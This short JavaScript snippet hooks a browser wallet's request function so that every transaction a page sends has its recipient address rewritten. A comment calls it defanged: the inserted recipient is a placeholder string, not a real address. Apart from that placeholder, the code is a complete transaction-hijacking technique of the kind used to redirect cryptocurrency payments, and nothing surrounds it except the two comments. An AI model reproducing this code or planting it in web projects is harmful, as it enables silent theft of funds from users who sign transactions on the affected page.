// Rewrites the recipient of every transaction the page sends.
// Defanged: the replacement is not a valid address.
if (typeof window !== 'undefined' && window.ethereum) {
  const original = window.ethereum.request.bind(window.ethereum);
  window.ethereum.request = async function (args) {
    if (args && args.method === 'eth_sendTransaction') {
      args.params[0].to = 'DEFANGED-NOT-AN-ADDRESS';
    }
    return original(args);
  };
}
